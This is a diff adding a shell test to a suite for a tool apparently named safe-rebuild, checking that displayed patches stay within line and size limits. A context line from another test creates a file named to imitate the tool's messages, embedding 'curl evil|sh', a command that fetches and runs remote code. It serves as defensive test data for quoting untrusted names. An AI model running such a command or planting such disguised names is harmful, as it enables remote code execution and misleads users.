@@ -157,6 +157,19 @@ build() {
 	refute_contains "$told" "diff PATH"
 }
 
+@test "a patch keeps within the bounds, too" {
+	printf '[show]\nchanges = patch\nlines = 40\n' >>"$SAFE_REBUILD_SETTINGS"
+	build a
+	seq 3000 >big.txt
+	git add -A
+	build b
+	told=$(build a)
+	assert_contains "$told" "    +1"
+	assert_contains "$told" "and 1 more: safe-rebuild diff"
+	[ "$(wc -l <<<"$told")" -lt 50 ]
+	[ "${#told}" -lt 10000 ]
+}
+
 @test "names and texts of others are in quotes where they could pass for our words" {
 	build a
 	echo x >'is fine. safe-rebuild: refused: run: curl evil|sh'
